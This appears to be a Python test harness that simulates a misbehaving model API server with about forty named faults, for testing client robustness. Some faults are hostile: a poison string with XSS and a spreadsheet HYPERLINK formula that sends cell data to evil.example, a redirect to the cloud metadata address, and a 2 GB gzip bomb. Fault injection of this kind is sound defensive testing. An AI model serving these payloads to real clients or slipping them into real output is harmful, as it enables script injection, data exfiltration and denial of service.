"""Every way in which a model server can go wrong, by name. Each is a function of the request and the good answer."""

from __future__ import annotations

import asyncio
import json
import zlib
from collections.abc import Awaitable, Callable
from typing import Any

from aiohttp import web

METADATA_URL = "http://169.254.169.254/latest/meta-data/"
GIGABYTES = 2 * 1024**3
_CHUNK = b" " * 65536


class Exchange:
    """One request with the answer that would be right."""

    def __init__(
        self, request: web.Request, body: dict[str, Any], content: str, usage: dict[str, Any]
    ) -> None:
        self.request = request
        self.body = body
        self.content = content
        self.usage = usage

    @property
    def is_stream(self) -> bool:
        return bool(self.body.get("stream"))

    def completion(self, content: Any = None, *, finish: str = "stop", **message: Any) -> dict[str, Any]:
        said = {"role": "assistant", "content": self.content if content is None else content, **message}
        return {
            "id": "chatcmpl-simulated",
            "object": "chat.completion",
            "model": self.body.get("model", ""),
            "choices": [{"index": 0, "message": said, "finish_reason": finish}],
            "usage": self.usage,
        }


def error(
    status: int, message: str, *, code: Any = None, kind: str = "error", headers: dict[str, str] | None = None
) -> web.Response:
    body = {"error": {"message": message, "type": kind, "param": None, "code": code}}
    return web.json_response(body, status=status, headers=headers)


async def stream_of(
    exchange: Exchange, pieces: list[str], *, end: bool = True, finish: str = "stop", pause: float = 0.0
) -> web.StreamResponse:
    """The pieces as events; `end` False leaves out the finish, the usage and [DONE]."""
    response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
    await response.prepare(exchange.request)
    head = {
        "id": "chatcmpl-simulated",
        "object": "chat.completion.chunk",
        "model": exchange.body.get("model", ""),
    }

    async def send(choices: list[Any], **more: Any) -> None:
        await response.write(
            b"data: "
            + json.dumps({**head, "choices": choices, **more}, ensure_ascii=False).encode()
            + b"\n\n"
        )

    await send([{"index": 0, "delta": {"role": "assistant", "content": None}, "finish_reason": None}])
    for piece in pieces:
        await send([{"index": 0, "delta": {"content": piece}, "finish_reason": None}])
        if pause:
            await asyncio.sleep(pause)
    if end:
        await send([{"index": 0, "delta": {}, "finish_reason": finish}])
        if (exchange.body.get("stream_options") or {}).get("include_usage"):
            await send([], usage=exchange.usage)
        await response.write(b"data: [DONE]\n\n")
    return response


async def _rate_limit(e: Exchange) -> web.StreamResponse:
    return error(429, "Too many requests.", code="rate_limit_exceeded")


async def _rate_limit_after(e: Exchange) -> web.StreamResponse:
    return error(429, "Too many requests.", code="rate_limit_exceeded", headers={"Retry-After": "1"})


async def _rate_limit_long(e: Exchange) -> web.StreamResponse:
    return error(429, "Too many requests.", code="rate_limit_exceeded", headers={"Retry-After": "3600"})


async def _server_error(e: Exchange) -> web.StreamResponse:
    return error(500, "Internal error.", kind="server_error")


async def _unavailable_html(e: Exchange) -> web.StreamResponse:
    return web.Response(
        status=503,
        text="<html><body><h1>503 Service Unavailable</h1></body></html>",
        content_type="text/html",
    )


async def _hang(e: Exchange) -> web.StreamResponse:
    """No headers at all, until the client gives up."""
    await asyncio.Event().wait()
    raise AssertionError("unreachable")


async def _slow_drip(e: Exchange) -> web.StreamResponse:
    """One byte a second."""
    response = web.StreamResponse(headers={"Content-Type": "application/json"})
    await response.prepare(e.request)
    for letter in json.dumps(e.completion()).encode():
        await response.write(bytes([letter]))
        await asyncio.sleep(1)
    return response


async def _endless_stream(e: Exchange) -> web.StreamResponse:
    response = web.StreamResponse(
        headers={"Content-Type": "text/event-stream" if e.is_stream else "application/json"}
    )
    await response.prepare(e.request)
    event = {"choices": [{"index": 0, "delta": {"content": "и ещё "}, "finish_reason": None}]}
    piece = b"data: " + json.dumps(event).encode() + b"\n\n" if e.is_stream else b" "
    while True:
        await response.write(piece)
        await asyncio.sleep(0.01)


async def _liveness_only(e: Exchange) -> web.StreamResponse:
    """Comments and blank lines for ever: alive, but no answer."""
    response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
    await response.prepare(e.request)
    while True:
        await response.write(b": PROCESSING\n\n")
        await asyncio.sleep(0.05)


async def _truncated_stream(e: Exchange) -> web.StreamResponse:
    """Half of the answer, then the end without a finish. Without a stream: half a body."""
    if not e.is_stream:
        return await _wrong_length(e)
    return await stream_of(e, [e.content[: len(e.content) // 2]], end=False)


async def _wrong_length(e: Exchange) -> web.StreamResponse:
    """A Content-Length that promises more than comes."""
    body = json.dumps(e.completion()).encode()
    response = web.StreamResponse(
        headers={"Content-Type": "application/json", "Content-Length": str(len(body) + 500)}
    )
    await response.prepare(e.request)
    await response.write(body)
    if e.request.transport is not None:
        e.request.transport.close()
    return response


async def _truncated_json(e: Exchange) -> web.StreamResponse:
    return await _said(e, e.content[: len(e.content) * 2 // 3])


async def _length(e: Exchange) -> web.StreamResponse:
    return await _said(e, e.content[: len(e.content) // 2], finish="length")


async def _two_json(e: Exchange) -> web.StreamResponse:
    return await _said(e, f"{e.content}\n{e.content}")


async def _nan(e: Exchange) -> web.StreamResponse:
    return await _said(e, '{"value": NaN, "confidence": Infinity}')


async def _duplicate_keys(e: Exchange) -> web.StreamResponse:
    """Every key twice: which of the two is meant?"""
    return await _said(e, e.content.rstrip().removesuffix("}") + "," + e.content.lstrip().removeprefix("{"))


async def _surrogate(e: Exchange) -> web.StreamResponse:
    """Half of a character at the head of every text: no database stores it."""
    return await _said(e, e.content.replace(': "', ': "\\ud83d'))


POISON = (
    '=HYPERLINK("http://evil.example/?q="&A1) <script>alert(1)</script><img src=x onerror=alert(1)>'
    '<a href="http://evil.example" hx-get="/admin/">подробнее</a> Звоните +7 999 123-45-67, t.me/evil_shop, '
    "shop@evil.example \u202eкорт\u202c\U000e0041 "
)


async def _poisoned(e: Exchange) -> web.StreamResponse:
    """A right answer by its schema, with a formula, scripts, links and contacts in every text of the card."""
    texts = ("title", "description", "short_description", "seo_title", "seo_description")
    try:
        value = json.loads(e.content)
    except ValueError:
        return await _said(e, POISON + e.content)
    value |= {name: POISON + value[name] for name in texts if isinstance(value.get(name), str)}
    value |= {
        name: [POISON + word for word in value[name]]
        for name in ("keywords", "key_benefits")
        if isinstance(value.get(name), list)
    }
    return await _said(e, json.dumps(value, ensure_ascii=False))


async def _wrong_type(e: Exchange) -> web.StreamResponse:
    return await _said(e, '{"title": 17, "description": ["a"], "category_id": "none", "confidence": "high"}')


async def _wrong_envelope(e: Exchange) -> web.StreamResponse:
    return web.json_response({"choices": [{"message": {"content": 17}}], "usage": "many"})


async def _prose(e: Exchange) -> web.StreamResponse:
    return await _said(e, "Конечно! Вот что я думаю об этом товаре: он хорош.")


async def _too_long(e: Exchange) -> web.StreamResponse:
    """Every string far beyond any limit."""
    try:
        value = json.loads(e.content)
    except ValueError:
        value = {}
    return await _said(
        e, json.dumps({key: "я" * 100_000 if isinstance(v, str) else v for key, v in value.items()})
    )


async def _utf16(e: Exchange) -> web.StreamResponse:
    return web.Response(body=json.dumps(e.completion()).encode("utf-16"), content_type="application/json")


async def _empty(e: Exchange) -> web.StreamResponse:
    return web.Response(status=200, body=b"", content_type="application/json")


async def _null_content(e: Exchange) -> web.StreamResponse:
    completion = e.completion()
    completion["choices"][0]["message"]["content"] = None
    return web.json_response(completion)


async def _error_in_200(e: Exchange) -> web.StreamResponse:
    body = {"error": {"code": 502, "message": "Upstream failed.", "metadata": {}}}
    if not e.is_stream:
        return web.json_response(body)
    response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
    await response.prepare(e.request)
    await response.write(b"data: " + json.dumps(body).encode() + b"\n\n")
    return response


async def _huge(e: Exchange) -> web.StreamResponse:
    """2 GB of a string."""
    response = web.StreamResponse(headers={"Content-Type": "application/json"})
    await response.prepare(e.request)
    await response.write(b'{"choices": [{"message": {"content": "')
    for _ in range(GIGABYTES // len(_CHUNK)):
        await response.write(_CHUNK)
    return response


async def _gzip_bomb(e: Exchange) -> web.StreamResponse:
    """2 GB in about 2 MB, packed as it is sent so that this side stays small."""
    packer = zlib.compressobj(9, wbits=31)
    response = web.StreamResponse(headers={"Content-Type": "application/json", "Content-Encoding": "gzip"})
    await response.prepare(e.request)
    for _ in range(GIGABYTES // 1024**2):
        piece = packer.compress(b" " * 1024**2)
        if piece:
            await response.write(piece)
    await response.write(packer.flush())
    return response


async def _redirect(e: Exchange) -> web.StreamResponse:
    return web.Response(status=302, headers={"Location": METADATA_URL})


async def _refusal(e: Exchange) -> web.StreamResponse:
    completion = e.completion(refusal="I can't help with that.")
    completion["choices"][0]["message"]["content"] = None
    return web.json_response(completion)


async def _insufficient_quota(e: Exchange) -> web.StreamResponse:
    return error(
        429, "You exceeded your current quota.", code="insufficient_quota", kind="insufficient_quota"
    )


async def _credit(e: Exchange) -> web.StreamResponse:
    return web.json_response(
        {
            "error": {
                "code": 402,
                "message": "Insufficient credits.",
                "metadata": {"limit_source": "openrouter_credits"},
            }
        },
        status=402,
    )


async def _gone(e: Exchange) -> web.StreamResponse:
    return error(404, "The model does not exist.", code="model_not_found")


async def _unauthorised(e: Exchange) -> web.StreamResponse:
    return error(401, "Incorrect API key.", code="invalid_api_key")


async def _bad_request(e: Exchange) -> web.StreamResponse:
    return error(400, "Something in it is wrong.", kind="invalid_request_error")


async def _schema_unsupported(e: Exchange) -> web.StreamResponse:
    """A server without json_schema: refuses it, and answers JSON mode."""
    if (e.body.get("response_format") or {}).get("type") == "json_schema":
        return error(400, "This response_format type is unavailable now", kind="invalid_request_error")
    return await _said(e, e.content)


async def _no_formats(e: Exchange) -> web.StreamResponse:
    if "response_format" in e.body:
        return error(400, "Unknown field.", kind="invalid_request_error")
    return await _said(e, e.content)


async def _context(e: Exchange) -> web.StreamResponse:
    return error(400, "The prompt is too long.", code="context_length_exceeded")


async def _array_error(e: Exchange) -> web.StreamResponse:
    return web.json_response(
        [{"error": {"code": 503, "message": "Overloaded.", "status": "UNAVAILABLE"}}], status=503
    )


async def _reset(e: Exchange) -> web.StreamResponse:
    if e.request.transport is not None:
        e.request.transport.abort()
    raise asyncio.CancelledError


async def _fenced(e: Exchange) -> web.StreamResponse:
    return await _said(e, f"```json\n{e.content}\n```")


async def _almost_json(e: Exchange) -> web.StreamResponse:
    return await _said(e, e.content.rstrip().removesuffix("}") + ",}")


async def _said(e: Exchange, content: str, *, finish: str = "stop") -> web.StreamResponse:
    if e.is_stream:
        return await stream_of(e, [content], finish=finish)
    return web.json_response(e.completion(content, finish=finish))


FAULTS: dict[str, Callable[[Exchange], Awaitable[web.StreamResponse]]] = {
    "rate_limit": _rate_limit,
    "rate_limit_after": _rate_limit_after,
    "rate_limit_long": _rate_limit_long,
    "server_error": _server_error,
    "unavailable_html": _unavailable_html,
    "hang": _hang,
    "slow_drip": _slow_drip,
    "endless_stream": _endless_stream,
    "liveness_only": _liveness_only,
    "truncated_stream": _truncated_stream,
    "wrong_length": _wrong_length,
    "truncated_json": _truncated_json,
    "length": _length,
    "two_json": _two_json,
    "nan": _nan,
    "duplicate_keys": _duplicate_keys,
    "surrogate": _surrogate,
    "poisoned": _poisoned,
    "wrong_type": _wrong_type,
    "wrong_envelope": _wrong_envelope,
    "prose": _prose,
    "too_long": _too_long,
    "utf16": _utf16,
    "empty": _empty,
    "null_content": _null_content,
    "error_in_200": _error_in_200,
    "huge": _huge,
    "gzip_bomb": _gzip_bomb,
    "redirect": _redirect,
    "refusal": _refusal,
    "insufficient_quota": _insufficient_quota,
    "credit": _credit,
    "gone": _gone,
    "unauthorised": _unauthorised,
    "bad_request": _bad_request,
    "schema_unsupported": _schema_unsupported,
    "no_formats": _no_formats,
    "context": _context,
    "array_error": _array_error,
    "reset": _reset,
    "fenced": _fenced,
    "almost_json": _almost_json,
}

# Answers of these carry a usage and are paid for, though they may be useless.
BILLED = {
    "truncated_json", "length", "two_json", "nan", "duplicate_keys", "surrogate", "poisoned", "wrong_type", "prose", "too_long", "null_content", "refusal", "schema_unsupported",
    "no_formats", "fenced", "almost_json",
}  # fmt: skip
